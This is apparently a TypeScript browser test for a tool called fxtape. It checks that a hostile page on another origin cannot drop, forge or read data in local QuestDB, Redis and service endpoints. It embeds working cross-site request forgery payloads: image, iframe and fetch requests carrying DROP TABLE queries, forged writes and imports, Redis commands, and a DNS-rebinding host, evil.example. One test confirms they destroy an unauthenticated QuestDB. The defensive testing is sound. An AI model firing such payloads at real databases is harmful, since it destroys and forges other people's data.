// What a web page of another origin can do to a recording that `npm start` keeps, in a real browser whose user has logged in to QuestDB's
// own console: nothing. The same page opens, reads and destroys a QuestDB without a password, which shows that it is the page it should be.
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { QuestDbHttp } from '@fxtape/questdb';
import { DEMO_ACCOUNT_ID } from '@fxtape/simulator';
import {
  browserProgram,
  type ChildHandle,
  freePort,
  GatewayControl,
  runFxtape,
  startFxtape,
  type TempDir,
  tempDir,
  until,
} from '@fxtape/testkit';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { ownQuestDb } from '../own-servers.ts';

let dir: TempDir;
let up: ChildHandle;
let browser: Browser;
let pages: Server;
let origin: string;
let conf: string;
let redisUrl: string;
let consoleAddr: string;
let gatewayAddr: string;
let controlAddr: string;

beforeAll(async () => {
  dir = tempDir('other-origin');
  const address = async () => `127.0.0.1:${await freePort()}`;
  [consoleAddr, gatewayAddr, controlAddr] = [await address(), await address(), await address()];
  up = await startFxtape(['up', '--demo'], {
    dataDir: dir.path,
    env: {
      FXTAPE_HTTP_ADDR: consoleAddr,
      FXTAPE_SIMULATOR_ADDR: gatewayAddr,
      FXTAPE_SIMULATOR_CONTROL_ADDR: controlAddr,
    },
  });
  const program = await browserProgram();
  browser = await chromium.launch({
    executablePath: program.path,
    env: Object.fromEntries(
      Object.entries(program.env).filter((pair): pair is [string, string] => pair[1] !== undefined),
    ),
    args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP evil.example 127.0.0.1'],
  });
  pages = createServer((_request, response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end(PAGE),
  );
  await new Promise<void>((resolve) => pages.listen(0, '127.0.0.1', resolve));
  origin = `:${(pages.address() as AddressInfo).port}`;
  await until(() => up.logs.includes('Ctrl-C') || up.exit !== null, {
    what: 'everything to run',
    deadlineMs: 120_000,
  });
  const stack = JSON.parse(readFileSync(join(dir.path, 'demo', 'run', 'stack.json'), 'utf8')) as {
    env: { QDB_CLIENT_CONF: string; REDIS_URL: string };
  };
  conf = stack.env.QDB_CLIENT_CONF;
  redisUrl = stack.env.REDIS_URL;
});
afterAll(async () => {
  await browser?.close();
  pages?.close();
  await up?.stop();
  await dir?.remove();
});

/** What the page tries; each of them alone destroys or forges rows where nobody asks who is there. Resolves with what it could read. */
const ATTACK = `async function attack(target) {
  const read = [];
  const sql = (text) => target + '/exec?query=' + encodeURIComponent(text);
  const ended = (element) => new Promise((resolve) => {
    element.addEventListener('load', resolve);
    element.addEventListener('error', resolve);
    document.body.append(element);
  });
  const image = document.createElement('img');
  image.src = sql('DROP TABLE by_image');
  await ended(image);
  const frame = document.createElement('iframe');
  frame.src = sql('DROP TABLE by_frame');
  await ended(frame);
  const form = new FormData();
  form.append('data', new Blob(['a\\n1\\n']), 'x.csv');
  const blind = { mode: 'no-cors', credentials: 'include' };
  for (const [url, init] of [
    [sql('DROP TABLE by_fetch'), blind],
    [target + '/write', { ...blind, method: 'POST', body: 'forged n=1i 1767571200000000000\\n' }],
    [target + '/imp?name=imported', { ...blind, method: 'POST', body: form }],
    [sql('SELECT n FROM forged'), { mode: 'cors', credentials: 'include' }],
    [sql('SELECT n FROM forged'), { mode: 'cors' }],
  ]) {
    // Refused before or after it was sent: what it did, the tables tell.
    const text = await fetch(url, init).then((answer) => answer.text(), () => '');
    if (text !== '') read.push(text);
  }
  return read;
}`;
/** The other ports. Resolves with what it could read, and whether the gateway opened its socket. */
const KNOCK = `async function knock(urls, socket) {
  const read = [];
  for (const url of urls) {
    const image = document.createElement('img');
    await new Promise((resolve) => {
      image.onload = image.onerror = resolve;
      image.src = url;
    });
    for (const init of [
      { mode: 'cors' },
      { mode: 'no-cors' },
      { mode: 'no-cors', method: 'POST', body: 'SET forged 1\\r\\n' },
      { mode: 'no-cors', method: 'POST', body: '{"ticksPerSecond":0}' },
    ]) {
      const signal = AbortSignal.timeout(3000);
      const text = await fetch(url, { ...init, signal }).then((answer) => answer.text(), () => '');
      if (text !== '') read.push(text);
    }
  }
  const opened = await new Promise((resolve) => {
    const ws = new WebSocket(socket);
    ws.onopen = () => resolve(true);
    ws.onerror = () => resolve(false);
  });
  return { read, opened };
}`;
const PAGE = `<!doctype html><title>another page</title><body><script>${ATTACK}\n${KNOCK}</script>`;

const TABLES = ['by_image', 'by_frame', 'by_fetch', 'forged'];

/** Which of the tables are left, and the rows of `forged`. */
async function after(http: QuestDbHttp): Promise<{ tables: string[]; rows: number }> {
  const { dataset } = await http.exec(
    "SELECT table_name FROM tables() WHERE table_name ~ '^by_|forged|imported' ORDER BY 1",
  );
  const rows = await http.exec('SELECT count() FROM forged');
  return { tables: dataset.map(([name]) => String(name)), rows: Number(rows.dataset[0]?.[0]) };
}

async function attacked(questdb: { conf: string; url: string }, host: string, atLeastRows = 1) {
  const http = new QuestDbHttp({ conf: questdb.conf });
  for (const name of [...TABLES, 'imported']) await http.exec(`DROP TABLE IF EXISTS ${name}`);
  for (const name of TABLES)
    await http.exec(
      `CREATE TABLE ${name} (timestamp TIMESTAMP, n LONG) TIMESTAMP(timestamp) PARTITION BY DAY WAL`,
    );
  const context = await browser.newContext();
  // As if somebody had signed in to QuestDB's own console in this browser.
  const authorization = /username=(.*?);password=(.*?);/.exec(questdb.conf);
  const signIn = await context.request.get(`${questdb.url}/exec?query=select%201&session=true`, {
    headers:
      authorization === null
        ? {}
        : {
            authorization: `Basic ${Buffer.from(`${authorization[1]}:${authorization[2]}`).toString('base64')}`,
          },
  });
  expect(signIn.status()).toBe(200);
  const page = await context.newPage();
  await page.goto(`http://${host}${origin}/`);
  const read = await page.evaluate(`attack(${JSON.stringify(questdb.url)})`);
  // Rebinding: the page's own name leads to QuestDB.
  const rebound = await page.goto(`http://evil.example:${new URL(questdb.url).port}/exec?query=select%201`);
  const outcome = { read, rebound: rebound?.status() ?? 0 };
  await context.close();
  await http.exec("INSERT INTO forged VALUES ('2026-01-06T00:00:00Z', 2)");
  const left = await until(
    async () => {
      const found = await after(http);
      return found.rows >= atLeastRows && found;
    },
    { what: 'what was sent before to be applied', deadlineMs: 20_000 },
  );
  http.close();
  return { ...outcome, ...left };
}

const urlOf = (text: string): string => `http://${/addr=([^;]+)/.exec(text)?.[1]}`;

test.for(['127.0.0.1', 'evil.example'])('a page at %s changes and reads nothing', async (host) => {
  const ours = { conf, url: urlOf(conf) };
  expect(await attacked(ours, host)).toEqual({
    read: [],
    rebound: 401,
    tables: [...TABLES].toSorted(),
    rows: 1,
  });
  // And people still get in.
  const asked = await runFxtape(['sql', 'SELECT count() FROM forged', '--csv'], { dataDir: dir.path });
  expect(asked).toMatchObject({ code: 0, stdout: 'count()\n1\n' });
});

test.for(['127.0.0.1', 'evil.example'])('nor does it by the other ports: %s', async (host) => {
  const run = join(dir.path, 'demo', 'run');
  const told = (name: string) => JSON.parse(readFileSync(join(run, name), 'utf8')) as { http: string };
  const health = ['collector', 'scheduler', 'backfill', 'simulator'].map(
    (name) => `http://${told(`${name}.json`).http}`,
  );
  const control = `http://${controlAddr}`;
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`http://${host}${origin}/`);
  const urls = [
    ...health.flatMap((url) => [`${url}/state`, `${url}/metrics`, `${url}/readyz`]),
    ...['/api/gaps', '/request/accounts', '/request/endpoints?account=demo'].map(
      (path) => `http://${consoleAddr}${path}`,
    ),
    ...['pause', 'rate', 'state'].map((path) => `${control}/__fx/${path}`),
    `http://${new URL(redisUrl).host}/`,
  ];
  const socket = `ws://${gatewayAddr}/mt5/${DEMO_ACCOUNT_ID}/ws?api_key=fxs_live_demo`;
  const { opened, read } = (await page.evaluate(
    `knock(${JSON.stringify(urls)}, ${JSON.stringify(socket)})`,
  )) as { opened: boolean; read: string[] };
  expect(read).toEqual([]);
  // The simulated gateway, whose keys everybody knows, takes what this machine serves for its own.
  expect(opened).toBe(host === '127.0.0.1');
  const rebound: (number | undefined)[] = [];
  for (const url of [`${health[0]}/state`, `${control}/__fx/state`, `http://${consoleAddr}/api/gaps`])
    rebound.push((await page.goto(url.replace('127.0.0.1', 'evil.example')))?.status());
  expect(rebound).toEqual([403, 403, 403]);
  await context.close();
  const market = new GatewayControl(control);
  const { generated } = await market.state();
  const goesOn = async () => (await market.state()).generated > generated;
  await until(goesOn, { what: 'the market to go on', deadlineMs: 10_000 });
  const redis = connect({ host: '127.0.0.1', port: Number(new URL(redisUrl).port) });
  redis.write(`AUTH ${new URL(redisUrl).password}\r\nEXISTS forged\r\nQUIT\r\n`);
  expect(await text(redis)).toMatch(/^\+OK\r\n:0\r\n/);
});

test('the same page destroys and forges where no password is asked for', async () => {
  const open = { conf: ownQuestDb().conf, url: ownQuestDb().http };
  const { rebound, rows, tables } = await attacked(open, '127.0.0.1', 2);
  expect(tables).toEqual(['forged', 'imported']);
  expect(rows).toBe(2);
  expect(rebound).toBe(200);
});
